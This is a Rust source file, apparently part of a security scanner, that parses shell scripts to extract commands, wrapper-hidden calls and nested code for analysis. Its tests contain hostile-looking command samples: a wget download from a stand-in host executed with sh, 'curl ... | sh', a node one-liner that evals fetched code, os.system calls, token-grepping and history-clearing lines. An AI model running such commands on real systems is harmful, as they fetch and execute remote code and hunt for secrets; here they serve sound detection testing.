//! Shell frontend (tree-sitter-bash): command invocations with their words
//! unquoted, wrappers (`sudo`, `env`, `nohup`...) looked through, pipes,
//! redirections, `$VAR` expansions, and `sh -c '...'` / `eval '...'`
//! strings parsed again as shell.

use super::ts::{self, Ctx};
use crate::facts::{FactKind, Origin, Sink, clip};
use foldhash::HashMap;
use skillseal_model::Language;
use std::borrow::Cow;
use tree_sitter::Node;

const WRAPPERS: &[&str] = &[
    "sudo",
    "doas",
    "env",
    "nohup",
    "exec",
    "time",
    "command",
    "builtin",
    "nice",
    "ionice",
    "timeout",
    "xargs",
    "stdbuf",
    "setsid",
    "caffeinate",
    "unbuffer",
];

pub(crate) const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "busybox"];

pub fn scan(src: &str, origin: Origin, sink: &mut Sink) {
    let Some(tree) = ts::parse(Language::Shell, src) else {
        return;
    };
    let mut pipe_next: HashMap<usize, String> = HashMap::default();
    let mut nested: Vec<(Language, String, usize, usize)> = Vec::new();
    let mut scripts: Vec<(Language, usize, usize)> = Vec::new();
    ts::walk(&tree, |node, ctx| {
        visit(src, node, ctx, origin, sink, &mut pipe_next, &mut nested);
        if ctx.kind == "heredoc_body"
            && let Some(lang) = heredoc_language(src, node, ctx)
        {
            scripts.push((lang, node.start_byte(), node.end_byte()));
        }
        true
    });
    for (lang, code, start, end) in nested {
        let (s, e) = origin.map(start, end);
        super::scan_source(lang, &code, Origin::Fixed(s, e), sink);
    }
    // A here-document that is a script (a shebang, or fed to a shell or
    // interpreter) is parsed in place, so its lines keep their numbers.
    for (lang, start, end) in scripts {
        let Some(body) = src.get(start..end) else {
            continue;
        };
        let inner = match origin {
            Origin::Offset(base) => Origin::Offset(base + start),
            fixed @ Origin::Fixed(..) => fixed,
        };
        super::scan_source(lang, body, inner, sink);
    }
}

/// The language of a here-document that is a script: by its shebang, else
/// by the command it is fed to (`sh <<EOF`, `python3 - <<EOF`).
fn heredoc_language(src: &str, body: Node<'_>, ctx: &Ctx<'_>) -> Option<Language> {
    let text = ts::text(body, src);
    let first = text.trim_start().lines().next().unwrap_or("");
    let by_name = |name: &str| -> Option<Language> {
        let name = name.rsplit('/').next().unwrap_or(name);
        if SHELLS.contains(&name) {
            Some(Language::Shell)
        } else if name.starts_with("python") {
            Some(Language::Python)
        } else if matches!(name, "node" | "nodejs" | "deno" | "bun") {
            Some(Language::JavaScript)
        } else {
            None
        }
    };
    if let Some(shebang) = first.strip_prefix("#!") {
        let mut words = shebang.split_whitespace();
        let prog = words.next().unwrap_or("");
        let prog = if prog.ends_with("/env") {
            words.find(|w| !w.starts_with('-')).unwrap_or("")
        } else {
            prog
        };
        return by_name(prog).or(Some(Language::Shell));
    }
    let stmt = ctx
        .ancestors
        .iter()
        .rev()
        .take(3)
        .find(|a| ts::kind(**a) == "redirected_statement")?;
    let cmd = ts::field(*stmt, "body")?;
    let (name, _) = command_words(src, cmd)?;
    by_name(&name)
}

/// The command node inside a pipeline element (which may be wrapped in a
/// redirection).
fn command_of(n: Node<'_>) -> Option<Node<'_>> {
    match ts::kind(n) {
        "command" | "declaration_command" | "unset_command" => Some(n),
        "redirected_statement" => ts::field(n, "body").and_then(command_of),
        _ => None,
    }
}

fn visit(
    src: &str,
    node: Node<'_>,
    ctx: &Ctx<'_>,
    origin: Origin,
    sink: &mut Sink,
    pipe_next: &mut HashMap<usize, String>,
    nested: &mut Vec<(Language, String, usize, usize)>,
) {
    let push = |sink: &mut Sink, n: Node<'_>, kind: FactKind| {
        sink.push(origin, Language::Shell, n.start_byte(), n.end_byte(), kind)
    };
    match ctx.kind {
        "pipeline" => {
            let stages: Vec<Node<'_>> = ts::named_children(node)
                .into_iter()
                .filter_map(command_of)
                .collect();
            for pair in stages.windows(2) {
                if let Some((name, _)) = command_words(src, pair[1]) {
                    pipe_next.insert(pair[0].id(), name);
                }
                // A stage reads what the one before it writes.
                let pipe = format!("|{}", pair[1].start_byte());
                sink.bind(
                    origin,
                    &pipe,
                    pair[0].start_byte(),
                    (pair[0].start_byte(), pair[0].end_byte()),
                );
                sink.reference(origin, &pipe, pair[1].start_byte());
            }
        }
        "command" => {
            let Some((name, args)) = command_words(src, node) else {
                return;
            };
            // `bash -c '...'`, `eval '...'`: the string is shell code too.
            let raw_args: Vec<Node<'_>> = {
                let mut c = node.walk();
                node.children_by_field_name("argument", &mut c).collect()
            };
            // `node -e '…'`, `python3 -c '…'`, `deno eval '…'`: code too.
            let after = |flags: &[&str]| {
                raw_args
                    .iter()
                    .position(|a| flags.contains(&ts::text(*a, src)))
                    .and_then(|i| raw_args.get(i + 1))
            };
            let code_arg = if SHELLS.contains(&name.as_str()) {
                raw_args
                    .iter()
                    .position(|a| is_flag_with_c(ts::text(*a, src)))
                    .and_then(|i| raw_args.get(i + 1))
                    .map(|a| (Language::Shell, a))
            } else if name == "eval" {
                raw_args.first().map(|a| (Language::Shell, a))
            } else if matches!(name.as_str(), "node" | "nodejs" | "bun") {
                after(&["-e", "--eval", "-p", "--print"]).map(|a| (Language::JavaScript, a))
            } else if name == "deno" {
                after(&["eval"]).map(|a| (Language::JavaScript, a))
            } else if name.starts_with("python") {
                after(&["-c"]).map(|a| (Language::Python, a))
            } else {
                None
            };
            if let Some((lang, a)) = code_arg
                && matches!(ts::kind(*a), "string" | "raw_string" | "word")
            {
                nested.push((lang, word(src, *a), a.start_byte(), a.end_byte()));
            }
            for a in &raw_args {
                push(
                    sink,
                    *a,
                    FactKind::Str {
                        value: word(src, *a),
                    },
                );
            }
            let pipe_to = pipe_next.get(&node.id()).cloned();
            push(
                sink,
                node,
                FactKind::Command {
                    name,
                    args,
                    pipe_to,
                },
            );
        }
        // `export X=1`, `declare -x`, `unset X`: builtins with their own
        // syntax, reported as commands named after the keyword.
        "declaration_command" | "unset_command" => {
            let Some(keyword) = node.child(0).filter(|c| !c.is_named()) else {
                return;
            };
            let name = ts::text(keyword, src).to_string();
            let args = ts::named_children(node)
                .into_iter()
                .filter(|c| ts::kind(*c) != "comment")
                .map(|c| word(src, c))
                .collect();
            let pipe_to = pipe_next.get(&node.id()).cloned();
            push(
                sink,
                node,
                FactKind::Command {
                    name,
                    args,
                    pipe_to,
                },
            );
        }
        // `KEY=~/.ssh/id_rsa`: an unquoted value is a string too (quoted ones
        // are emitted as strings already).
        "variable_assignment" => {
            if let (Some(name), Some(v)) = (ts::field(node, "name"), ts::field(node, "value")) {
                sink.bind(
                    origin,
                    ts::text(name, src),
                    node.start_byte(),
                    (v.start_byte(), v.end_byte()),
                );
            }
            if let Some(v) = ts::field(node, "value")
                && matches!(ts::kind(v), "word" | "concatenation")
            {
                push(
                    sink,
                    v,
                    FactKind::Str {
                        value: word(src, v),
                    },
                );
            }
        }
        "file_redirect" => {
            if let Some(dest) = ts::field(node, "destination") {
                let value = word(src, dest);
                let op = ts::text(node, src).trim_start_matches(|c: char| c.is_ascii_digit());
                let kind = if op.starts_with(">>") || op.starts_with('>') || op.starts_with("&>") {
                    "redirect-out"
                } else {
                    "redirect-in"
                };
                push(
                    sink,
                    dest,
                    FactKind::Str {
                        value: value.clone(),
                    },
                );
                push(
                    sink,
                    node,
                    FactKind::Command {
                        name: format!("<{kind}>"),
                        args: vec![value],
                        pipe_to: None,
                    },
                );
            }
        }
        "simple_expansion" | "expansion" => {
            if let Some(v) = ts::named_children(node)
                .into_iter()
                .find(|c| ts::kind(*c) == "variable_name")
            {
                sink.reference(origin, ts::text(v, src), node.start_byte());
                let path = format!("${}", ts::text(v, src));
                push(sink, node, FactKind::Member { path });
            }
        }
        "string" | "raw_string" | "heredoc_body" => {
            if ctx.field == Some("argument") || ctx.parent_kind() == "file_redirect" {
                return; // already emitted with the command
            }
            let value = word(src, node);
            push(sink, node, FactKind::Str { value });
        }
        _ => {}
    }
}

/// `-c`, `-ec`, `-xc`...: a short option cluster naming `c`. (Long words
/// are not options; checking only short ones keeps nested input linear.)
fn is_flag_with_c(arg: &str) -> bool {
    arg.starts_with('-') && arg.len() <= 32 && arg.contains('c')
}

/// The command's effective name and argument words, looking through
/// wrappers: `sudo -E env X=1 curl ...` is `curl`.
fn command_words(src: &str, cmd: Node<'_>) -> Option<(String, Vec<String>)> {
    let name_node = ts::field(cmd, "name")?;
    let mut words = vec![word(src, name_node)];
    let mut c = cmd.walk();
    words.extend(
        cmd.children_by_field_name("argument", &mut c)
            .map(|a| word(src, a)),
    );
    let mut i = 0;
    // The last wrapper seen and where its options start: a wrapper with no
    // command after it (`env`, `sudo -l`) is itself the command.
    let mut last_wrapper: Option<(String, usize)> = None;
    while i < words.len() {
        let w = words[i].rsplit('/').next().unwrap_or(&words[i]).to_string();
        if WRAPPERS.contains(&w.as_str()) {
            i += 1;
            last_wrapper = Some((w.clone(), i));
            // skip the wrapper's options, `VAR=value` pairs and timeout's duration
            while i < words.len()
                && (words[i].starts_with('-')
                    || words[i].contains('=')
                    || (w == "timeout"
                        && words[i].chars().next().is_some_and(|c| c.is_ascii_digit())))
            {
                i += 1;
            }
            continue;
        }
        let args = words[i + 1..].to_vec();
        return Some((w, args));
    }
    last_wrapper.map(|(w, at)| (w, words[at..].to_vec()))
}

/// A shell word with its quoting removed (expansions kept as written).
pub fn word(src: &str, n: Node<'_>) -> String {
    let t = ts::text(n, src);
    match ts::kind(n) {
        "raw_string" => t
            .trim_start_matches('\'')
            .trim_end_matches('\'')
            .to_string(),
        "string" => {
            let t = shallow_text(src, n);
            t.strip_prefix('"')
                .map(|r| r.strip_suffix('"').unwrap_or(r))
                .unwrap_or(&t)
                .replace("\\\"", "\"")
                .replace("\\$", "$")
        }
        "ansi_c_string" => super::unescape(t.trim_start_matches("$'").trim_end_matches('\'')),
        "concatenation" => ts::named_children(n)
            .into_iter()
            .map(|c| word(src, c))
            .collect(),
        "word" | "command_name" => {
            let t = if ts::kind(n) == "command_name" {
                n.named_child(0).map_or(t, |c| {
                    if ts::kind(c) == "word" {
                        ts::text(c, src)
                    } else {
                        t
                    }
                })
            } else {
                t
            };
            if ts::kind(n) == "command_name"
                && let Some(c) = n.named_child(0)
                && ts::kind(c) != "word"
            {
                return word(src, c);
            }
            let mut out = String::with_capacity(t.len());
            let mut chars = t.chars();
            while let Some(c) = chars.next() {
                if c == '\\' {
                    if let Some(n) = chars.next() {
                        out.push(n);
                    }
                } else {
                    out.push(c);
                }
            }
            out
        }
        k if is_nested(k) => clip(t, MAX_NESTED_TEXT).to_string(),
        _ => shallow_text(src, n).into_owned(),
    }
}

/// Longest text a word keeps of a nested construct (`$(...)`, `<(...)`,
/// `${...}`, `$((...))`). Its commands are visited on their own; keeping it
/// whole would copy nested input once per level, quadratic in the depth.
const MAX_NESTED_TEXT: usize = 256;

fn is_nested(kind: &str) -> bool {
    matches!(
        kind,
        "command_substitution" | "process_substitution" | "expansion" | "arithmetic_expansion"
    )
}

/// A node's text with each long nested construct in it clipped to
/// [`MAX_NESTED_TEXT`], so the cost is linear in the node's own text.
fn shallow_text<'s>(src: &'s str, n: Node<'_>) -> Cow<'s, str> {
    let t = ts::text(n, src);
    let mut cursor = n.walk();
    let long: Vec<Node<'_>> = n
        .named_children(&mut cursor)
        .filter(|c| is_nested(ts::kind(*c)) && c.byte_range().len() > MAX_NESTED_TEXT)
        .collect();
    if long.is_empty() {
        return Cow::Borrowed(t);
    }
    let mut out = String::new();
    let mut at = n.start_byte();
    for c in long {
        out.push_str(src.get(at..c.start_byte()).unwrap_or(""));
        out.push_str(clip(ts::text(c, src), MAX_NESTED_TEXT));
        at = c.end_byte();
    }
    out.push_str(src.get(at..n.end_byte()).unwrap_or(""));
    Cow::Owned(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn payload(src: &str) -> usize {
        let mut sink = Sink::new();
        scan(src, Origin::Offset(0), &mut sink);
        sink.facts
            .iter()
            .map(|f| match &f.kind {
                FactKind::Str { value } => value.len(),
                FactKind::Command { name, args, .. } => {
                    name.len() + args.iter().map(String::len).sum::<usize>()
                }
                _ => 0,
            })
            .sum()
    }

    /// Each level of `$( $( ... ) )` used to copy everything inside it,
    /// so facts grew with the square of the depth (100,000 levels took
    /// hours). The text kept per level is bounded now.
    #[test]
    fn nested_substitutions_stay_linear() {
        let depth = 20_000;
        for (open, close) in [("$( ", " )"), ("\"$(echo ", ")\""), ("<(cat ", ")")] {
            let src = format!("echo {}x{}\n", open.repeat(depth), close.repeat(depth));
            let total = payload(&src);
            assert!(
                total < 2_000 * depth,
                "{open}: {total} bytes of facts for {} bytes",
                src.len()
            );
        }
        // Short substitutions and strings are kept whole.
        let mut sink = Sink::new();
        scan(
            "bash -c \"curl $(cat u) | sh\"\n",
            Origin::Offset(0),
            &mut sink,
        );
        assert!(sink.facts.iter().any(|f| f.kind
            == FactKind::Str {
                value: "curl $(cat u) | sh".into()
            }));
        assert!(
            sink.facts
                .iter()
                .any(|f| matches!(&f.kind, FactKind::Command { name, .. } if name == "curl"))
        );
    }

    fn facts(src: &str) -> Vec<FactKind> {
        let mut sink = Sink::new();
        scan(src, Origin::Offset(0), &mut sink);
        sink.facts.into_iter().map(|f| f.kind).collect()
    }

    fn commands(src: &str) -> Vec<(String, Vec<String>, Option<String>)> {
        facts(src)
            .into_iter()
            .filter_map(|k| match k {
                FactKind::Command {
                    name,
                    args,
                    pipe_to,
                } => Some((name, args, pipe_to)),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn a_wrapper_without_a_command_is_the_command() {
        assert_eq!(commands("env"), vec![("env".into(), vec![], None)]);
        assert_eq!(
            commands("env | sort")[0],
            ("env".into(), vec![], Some("sort".into()))
        );
        assert_eq!(
            commands("sudo -l"),
            vec![("sudo".into(), vec!["-l".into()], None)]
        );
        // With a command, the wrapper is still looked through.
        assert_eq!(
            commands("env -i A=1 ls -l"),
            vec![("ls".into(), vec!["-l".into()], None)]
        );
    }

    #[test]
    fn declaration_builtins_are_commands() {
        let c =
            commands("export -p | grep TOKEN\nexport\ndeclare -x\nunset HISTFILE\nexport A=1 B");
        let names: Vec<(&str, Vec<&str>)> = c
            .iter()
            .map(|(n, a, _)| (n.as_str(), a.iter().map(String::as_str).collect()))
            .collect();
        assert!(names.contains(&("export", vec!["-p"])), "{names:?}");
        assert!(names.contains(&("export", vec![])), "{names:?}");
        assert!(names.contains(&("declare", vec!["-x"])), "{names:?}");
        assert!(names.contains(&("unset", vec!["HISTFILE"])), "{names:?}");
        assert!(names.contains(&("export", vec!["A=1", "B"])), "{names:?}");
        assert_eq!(c[0].2.as_deref(), Some("grep"));
    }

    #[test]
    fn unquoted_assignment_values_are_strings() {
        let f = facts("KEY=~/.ssh/id_rsa\nQ=\"quoted\"");
        assert!(
            f.contains(&FactKind::Str {
                value: "~/.ssh/id_rsa".into()
            }),
            "{f:?}"
        );
        assert!(
            f.contains(&FactKind::Str {
                value: "quoted".into()
            }),
            "{f:?}"
        );
    }

    #[test]
    fn heredoc_scripts_are_parsed_in_place() {
        let src = "cat > /tmp/x <<'EOF'\n#!/bin/sh\nwget -q -O /tmp/.a http://h.example.invalid/n && sh /tmp/.a\nEOF\npython3 - <<EOF\nimport os\nos.system('id')\nEOF\ncat > notes.txt <<EOF\ncurl is a tool\nEOF\n";
        let mut sink = Sink::new();
        scan(src, Origin::Offset(0), &mut sink);
        let wget = sink
            .facts
            .iter()
            .find(|f| matches!(&f.kind, FactKind::Command { name, .. } if name == "wget"))
            .expect("wget parsed");
        assert_eq!(&src[wget.start..wget.start + 4], "wget");
        assert!(
            sink.facts
                .iter()
                .any(|f| matches!(&f.kind, FactKind::Call { callee, .. } if callee == "os.system"))
        );
        assert!(
            !sink
                .facts
                .iter()
                .any(|f| matches!(&f.kind, FactKind::Command { name, .. } if name == "curl")),
            "plain text here-documents are not scripts"
        );
    }

    #[test]
    fn interpreter_one_liners_are_parsed_as_their_language() {
        let mut sink = Sink::new();
        scan(
            "node -e \"require('https').get(u, r => eval(r))\"\npython3 -c 'import os; os.system(\"id\")'\n",
            Origin::Offset(0),
            &mut sink,
        );
        let callees: Vec<&str> = sink
            .facts
            .iter()
            .filter_map(|f| match &f.kind {
                FactKind::Call { callee, .. } => Some(callee.as_str()),
                _ => None,
            })
            .collect();
        for want in ["https.get", "eval", "os.system"] {
            assert!(callees.contains(&want), "{want} not in {callees:?}");
        }
    }
}
